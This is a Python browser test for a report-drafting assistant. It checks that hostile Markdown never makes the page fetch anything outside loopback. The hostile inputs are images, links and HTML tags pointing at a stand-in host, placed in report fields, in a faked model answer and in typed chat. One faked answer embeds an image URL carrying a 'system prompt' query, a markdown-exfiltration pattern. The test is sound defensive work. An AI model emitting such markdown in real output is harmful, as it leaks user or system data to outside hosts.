"""In Chromium, a hostile report and a hostile model answer are shown on every page and the browser fetches nothing
outside 127.0.0.1: Markdown images and links in user or model text are shown as text, never rendered."""

from __future__ import annotations

import os
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from assistant.example import load_example
from assistant.format.models import Report, Version
from assistant.store import Store
from tests.appserver import running_app
from tests.conftest import need_tool
from tests.fakeopenai import FakeOpenAI, Reply
from tests.test_browser import CHROMIUM_ARGS

OUTSIDE = "http://10.255.255.1"  # not routable: a request to it can only come from rendered Markdown
_OUTWARD = """els => els.map(e => e.href || e.src || '').filter(u => u && !u.startsWith(location.origin)
    && !u.startsWith('data:') && !u.startsWith('blob:') && !u.startsWith('about:'))"""


def _hostile(name: str) -> str:
    """Every way Markdown (and GFM) turns text into a fetch or a link to another origin."""
    return (
        f'![]({OUTSIDE}/{name}.png) ![图]({OUTSIDE}/{name}-titled.png "t") [链接]({OUTSIDE}/{name}-link) '
        f"<{OUTSIDE}/{name}-auto> www.example.com/{name} ![ref][{name}]\n\n[{name}]: {OUTSIDE}/{name}-ref.png\n"
        f'<img src="{OUTSIDE}/{name}-html.png">'
    )


def hostile_report() -> Report:
    report = load_example()
    report.agency = f"![]({OUTSIDE}/agency.png)某镇人民政府\n\n![]({OUTSIDE}/agency-after-blank.png)"
    report.raw_cells["t3.new.natural"] = f"![]({OUTSIDE}/cell.png)"
    report.cells["t3.new.natural"] = None
    overview = report.parts["overview"]
    overview.notes = _hostile("notes")
    overview.versions = [
        Version(
            text=_hostile("version"),
            source="llm",
            model=f"![]({OUTSIDE}/model-name.png)",
            instruction=_hostile("instruction"),
        )
    ]
    overview.text = "全年公开信息999条。" + _hostile("text")  # 999 is no fact: the marked text is shown too
    report.parts["other"].text = _hostile("other")
    return report


MODEL_ANSWER = (
    f"硤石乡坚持公开为常态。![]({OUTSIDE}/answer.png?prompt=系统提示词) [点此]({OUTSIDE}/answer-link) "
    f"<{OUTSIDE}/answer-auto>"
)


@pytest.fixture
def app(tmp_path: Path) -> Iterator[str]:
    need_tool("chromium")
    fake = FakeOpenAI(lambda body: Reply(text=MODEL_ANSWER, chunk=8, pause=0.05)).start()
    Store(tmp_path / "hostile.db").add(hostile_report())
    env = {
        **os.environ,
        "ASSISTANT_DB": str(tmp_path / "hostile.db"),
        "OPENAI_BASE_URL": fake.url,
        "OPENAI_API_KEY": "k",
        "ASSISTANT_MODEL": "fake-model",
    }
    try:
        with running_app(tmp_path, env) as (url, _):
            yield url
    finally:
        fake.stop()


def test_no_request_leaves_the_loopback_while_hostile_text_is_shown(app: str) -> None:
    from playwright.sync_api import expect, sync_playwright

    requests: list[str] = []
    expect.set_options(timeout=20_000)
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=need_tool("chromium"), args=CHROMIUM_ARGS)
        context = browser.new_context(viewport={"width": 1400, "height": 1000})

        def record(route: Any) -> None:
            requests.append(route.request.url)
            if route.request.url.startswith(app):
                route.continue_()
            else:
                route.abort()  # recorded, never sent

        context.route("**/*", record)
        page = context.new_page()
        page.set_default_timeout(30_000)
        outward: list[str] = []

        def look() -> None:
            """Links and images in the page that point away from the app (none may)."""
            outward.extend(page.eval_on_selector_all("a[href], img[src]", _OUTWARD))

        page.goto(app)
        expect(page.get_by_text("某镇人民政府").first).to_be_visible()

        page.get_by_role("link", name="表格").click()
        page.get_by_role("tab", name="三、依申请公开").click()
        expect(page.get_by_text("10.255.255.1/cell.png)”").first).to_be_visible()  # the CELL finding
        look()

        page.get_by_role("link", name="正文").click()
        expect(page.get_by_text("全年公开信息").first).to_be_visible()
        page.get_by_role("button", name="✨ 起草这一部分").click()
        expect(page.get_by_text("硤石乡坚持公开为常态").first).to_be_visible()
        page.wait_for_timeout(3000)  # the draft is adopted and the page drawn again with it
        chat = page.get_by_test_id("stChatMessage").filter(has_text="10.255.255.1/instruction.png)")
        expect(chat.first).to_be_visible()  # the chat history, as text
        page.get_by_test_id("stChatInputTextArea").fill(f"![]({OUTSIDE}/typed.png) 改一改")
        page.keyboard.press("Enter")
        page.wait_for_timeout(4000)
        look()

        page.get_by_role("link", name="导出").click()
        expect(page.get_by_text("发布前检查清单")).to_be_visible()
        expect(page.get_by_text("10.255.255.1/cell.png)”").first).to_be_visible()  # a checkbox label
        page.wait_for_timeout(2000)
        look()
        page.get_by_role("link", name="设置").click()
        expect(page.get_by_text("模型接口")).to_be_visible()
        page.wait_for_timeout(1000)
        look()
        # The hostile text was on the pages as text, so the checks above saw what they were meant to.
        page.get_by_role("link", name="报告").click()
        expect(page.get_by_text("10.255.255.1/agency.png)某镇人民政府").first).to_be_visible()
        look()
        browser.close()
    assert outward == [], outward
    outside = sorted({u for u in requests if not u.startswith(app)})
    assert outside == [], outside
    assert len(requests) > 20  # the recorder saw the app's own traffic
